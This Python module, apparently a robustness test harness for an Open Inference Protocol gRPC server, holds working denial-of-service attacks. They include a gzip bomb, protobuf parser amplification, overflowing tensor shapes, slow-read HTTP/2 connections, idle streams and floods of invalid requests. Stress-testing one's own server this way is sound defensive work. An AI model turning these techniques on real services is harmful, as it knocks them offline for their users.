"""Attacks on the Open Inference Protocol, by strangers and by callers with a token. Each takes a running
Target."""

import gzip
import struct
import time

import grpc
import http2
import strangers
from callers import fused_rings, many_molecules
from target import MIB, bearer
from inference import grpc_service_pb2, grpc_service_pb2_grpc

SERVICE = "/inference.GRPCInferenceService/"
INFER, STREAM = SERVICE + "ModelInfer", SERVICE + "ModelStreamInfer"
METHODS = [SERVICE + name for name in (
    "ServerLive", "ServerReady", "ModelReady", "ServerMetadata", "ModelMetadata", "ModelInfer",
    "ModelStreamInfer")]
GENES = [f"G{k}" for k in range(24)]


def add_input(made, name, datatype, shape, raw):
    tensor = made.inputs.add(name=name, datatype=datatype)
    tensor.shape.extend(shape)
    made.raw_input_contents.append(raw)


def strings(elements):
    encoded = [element.encode() for element in elements]
    return b"".join(struct.pack("<I", len(element)) + element for element in encoded)


def infer_request(cells=1, **inputs):
    """A knockout of G1 in cells of halves, unless `inputs` says other strings."""
    made = grpc_service_pb2.ModelInferRequest()
    add_input(made, "genes", "BYTES", [24], strings(GENES))
    add_input(made, "cells", "FP32", [cells, 24], struct.pack("<f", 0.5) * (24 * cells))
    add_input(made, "cell_type", "BYTES", [1], strings(["T0"]))
    for name, elements in (inputs or {"knockout": ["G1"]}).items():
        add_input(made, name, "BYTES", [len(elements)], strings(elements))
    return made


def infer(channel, made, name="alice", timeout=60):
    """The code of a whole call."""
    try:
        grpc_service_pb2_grpc.GRPCInferenceServiceStub(channel).ModelInfer(
            made, metadata=bearer(name), timeout=timeout)
        return "OK"
    except grpc.RpcError as error:
        return error.code().name


def parsing(target, count=2, more=strangers.UNKNOWN_TOKEN):
    """Messages of two bytes an input, a parameter or an element, and a hundred in memory."""
    inputs = bytes([5 << 3 | 2, 0]) * 3_000_000
    parameters = bytes([4 << 3 | 2, 0]) * 3_000_000
    contents = bytes([8 << 3 | 2, 0]) * 3_000_000  # bytes_contents
    tensor = bytes([5 << 3 | 2]) + varint(len(contents)) + contents
    typed = bytes([5 << 3 | 2]) + varint(len(tensor)) + tensor
    for _ in range(count):
        for path in (INFER, STREAM):
            for body in (inputs, parameters, typed):
                strangers.post(target, path, body, more=more)
                strangers.post(target, path, gzip.compress(body * 3), compressed=True, more=more)


def varint(number):
    out = b""
    while number >= 128:
        out += bytes([number % 128 + 128])
        number //= 128
    return out + bytes([number])


def gzip_bombs(target, count=2, more=strangers.UNKNOWN_TOKEN):
    """300 KB that inflate to 300 MiB, on every method."""
    bomb = gzip.compress(bytes(300 * MIB))
    for _ in range(count):
        for path in METHODS:
            strangers.post(target, path, bomb, compressed=True, more=more)


def shapes(target):
    """Shapes of more elements than there are bytes, and tensors of millions of empty elements."""
    codes = set()
    with target.channel() as channel:
        for _ in range(5):
            for shape in ([1 << 62, 1 << 62], [1 << 62, 0], [0, 1 << 62], [1 << 32, 1 << 32], [-1, -24],
                          [-1], [-(1 << 63), -1], []):
                for raw in (None, b""):
                    made = infer_request()
                    del made.inputs[1].shape[:]
                    made.inputs[1].shape.extend(shape)
                    if raw is not None:
                        made.raw_input_contents[1] = raw
                    codes.add(infer(channel, made))
            for index, name in ((0, "genes"), (2, "cell_type"), (3, "knockout")):
                for count, shape in ((1_900_000, 1_900_000), (1_900_000, 20_000),
                                     (190_000, 190_000), (10, 1 << 62)):
                    made = infer_request()
                    made.inputs[index].shape[0] = shape
                    made.raw_input_contents[index] = bytes(4 * count)
                    codes.add(infer(channel, made))
    return codes


def preparation(target, callers=2):
    """Thousands of molecules and fused rings, whose callers leave at once."""
    smiles = [each.molecule.smiles for each in many_molecules().perturbations]
    made = infer_request(smiles=smiles + [fused_rings()] * 4)
    add_input(made, "dose_um", "FP32", [len(smiles) + 4], struct.pack("<f", 1.0) * (len(smiles) + 4))
    with target.channel() as channel:
        stub = grpc_service_pb2_grpc.GRPCInferenceServiceStub(channel)
        calls = [stub.ModelInfer.future(made, metadata=bearer("alice"), timeout=60)
                 for _ in range(callers)]
        time.sleep(1.0)
        for call in calls:
            call.cancel()


def unread(target, path=INFER, connections=12, each=1, hold=8.0):
    """Answers of 1.5 MB each that nobody reads."""
    made = infer_request(cells=800, knockout=[f"G{k % 6}" for k in range(20)]).SerializeToString()
    peers = []
    for _ in range(connections):
        peer = http2.Peer(target.front).greet(window=1)
        peers.append(peer)
        try:
            stream = peer.open(http2.headers(path, bearer("alice")))
            peer.data(stream, http2.message(made) * each, end=path == INFER)
        except OSError:
            pass
    time.sleep(hold)
    for peer in peers:
        peer.close()


def unread_streams(target, hold=8.0):
    unread(target, STREAM, each=4, hold=hold)


def idle_streams(target, count=400, hold=6.0):
    """Streams on which nothing is said."""
    with target.channel() as channel:
        stub = grpc_service_pb2_grpc.GRPCInferenceServiceStub(channel)

        def nothing():
            time.sleep(hold)
            return
            yield

        calls = [stub.ModelStreamInfer(nothing(), metadata=bearer("alice"), timeout=60)
                 for _ in range(count)]
        time.sleep(hold)
        for call in calls:
            call.cancel()


def refused_requests(target, count=5000):
    """One stream of thousands of requests that are wrong, and as many answers."""
    made = infer_request(knockout=["NOSUCHGENE"])
    with target.channel() as channel:
        stub = grpc_service_pb2_grpc.GRPCInferenceServiceStub(channel)
        answers = 0
        try:
            for answer in stub.ModelStreamInfer(iter([made] * count), metadata=bearer("alice"),
                                                timeout=120):
                answers += bool(answer.error_message)
        except grpc.RpcError:
            pass
        return answers
